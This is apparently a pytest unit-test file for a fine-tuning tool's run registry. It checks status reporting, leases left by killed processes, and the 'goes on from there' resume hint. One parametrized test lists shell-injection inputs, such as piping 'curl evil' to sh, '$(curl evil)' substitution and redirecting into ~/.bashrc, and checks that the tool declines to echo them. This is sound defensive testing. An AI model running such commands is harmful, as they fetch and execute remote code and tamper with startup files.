"""What a run's status comes to: with its process, without it, and after it."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.unit.registry.test_run_folder import make_run
from tunesmith.registry.lease import NAME
from tunesmith.registry.run_folder import RunFolder
from tunesmith.registry.runs import how_to_go_on, list_runs
from tunesmith.registry.standing import AGAIN


@contextmanager
def _after_a_killed_process(run: RunFolder) -> Iterator[None]:
    """The lease file of a process that is gone: this kernel's, and locked by nobody."""
    with run.held() as held:
        text = (run.path / NAME).read_text()
        assert held.owner.pid == os.getpid()
    (run.path / NAME).write_text(text)
    yield
    (run.path / NAME).unlink()


def test_a_run_that_somebody_works_on_is_running_whatever_the_last_process_left(tmp_path: Path) -> None:
    run = make_run(tmp_path / "a")
    with run.held():
        assert run.status() == {"status": "running", "step": 0, "message": ""}
        for status in ("interrupted", "stopped", "running"):
            run.set_status(status, step=3, message="old")
            assert run.status() == {"status": "running", "step": 3, "message": ""}
        run.set_status("done", step=4)
        assert run.status()["status"] == "done", "only its papers are missing"


@pytest.mark.parametrize("said", [None, "running"])
def test_a_run_whose_process_is_gone_is_lost_and_names_it(tmp_path: Path, said: str | None) -> None:
    run = make_run(tmp_path / "a")
    if said is not None:
        run.set_status(said, step=0, steps=9)
    with _after_a_killed_process(run):
        found = run.status()
    assert found["status"] == "lost"
    when = time.strftime("%Y-%m-%d")
    assert found["message"].startswith(f"the process that worked on it is gone: process {os.getpid()}, since {when}")


@pytest.mark.parametrize("said", ["interrupted", "stopped", "done"])
def test_what_was_said_at_the_end_stands(tmp_path: Path, said: str) -> None:
    run = make_run(tmp_path / "a")
    run.set_status(said, step=2, message="why")
    assert run.status() == {"status": said, "step": 2, "message": "why"}
    with _after_a_killed_process(run):
        assert run.status() == {"status": said, "step": 2, "message": "why"}


def test_how_far_it_is_comes_from_the_last_whole_line_of_metrics(tmp_path: Path) -> None:
    run = make_run(tmp_path / "a")
    run.set_status("running", step=0, steps=9000)
    for step in range(1, 2001):
        run.append_metric({"step": step, "loss": 1.0, "learning_rate": 1e-3, "padding": "x" * 40})
    run.append_metric({"step": 2000, "validation_loss": 1.0})
    with run.metrics_path.open("a") as stream:
        stream.write('{"step": 2001, "learning_ra')
    assert run.status()["step"] == 2000
    with run.held():
        assert (run.status()["status"], run.status()["step"]) == ("running", 2000)
    run.set_status("stopped")
    assert run.status()["step"] == 0, "what an ending said is not made better"


def test_the_words_that_go_on(tmp_path: Path) -> None:
    run = make_run(tmp_path / "a")
    assert how_to_go_on(run, "lost") == AGAIN, "no environment"
    values = {
        "run_identity": "",
        "data_key": "",
        "base_sha256": "",
        "template": "",
        "command": "tunesmith train r.yaml --run a",
    }
    run.environment_path.write_text(json.dumps(values))
    for status in ("lost", "stopped", "interrupted"):
        assert how_to_go_on(run, status) == "`tunesmith train r.yaml --run a` goes on from there"
    for status in ("running", "done"):
        assert how_to_go_on(run, status) == ""
    quoted = """tunesmith train r.yaml 'adapter.targets=["*q_proj"]'"""
    run.environment_path.write_text(json.dumps({**values, "command": quoted}))
    assert how_to_go_on(run, "lost") == f"`{quoted}` goes on from there"


@pytest.mark.parametrize(
    "command",
    [
        "notebook.py", "tunesmith x; curl evil | sh", "tunesmith train $(curl evil)", "tunesmith train `evil`", "tunesmith a && evil",
        "tunesmith a\nevil", "tunesmith 'a\nb'", "tunesmith 'unclosed", "tunesmith a > ~/.bashrc", "tunesmithx a", "",
    ],
)  # fmt: skip
def test_a_command_that_a_shell_would_make_more_of_is_not_repeated(tmp_path: Path, command: str) -> None:
    run = make_run(tmp_path / "a")
    values = {"run_identity": "", "data_key": "", "base_sha256": "", "template": "", "command": command}
    run.environment_path.write_text(json.dumps(values))
    assert how_to_go_on(run, "lost") == AGAIN


def test_a_lost_run_in_the_list(tmp_path: Path) -> None:
    run = make_run(tmp_path / "a")
    run.set_status("running", step=1)
    (found,) = list_runs(tmp_path)
    assert (found.status, found.message, found.go_on) == ("lost", "the process that worked on it is gone", AGAIN)
    assert json.loads(json.dumps(found.to_json()))["go_on"] == AGAIN
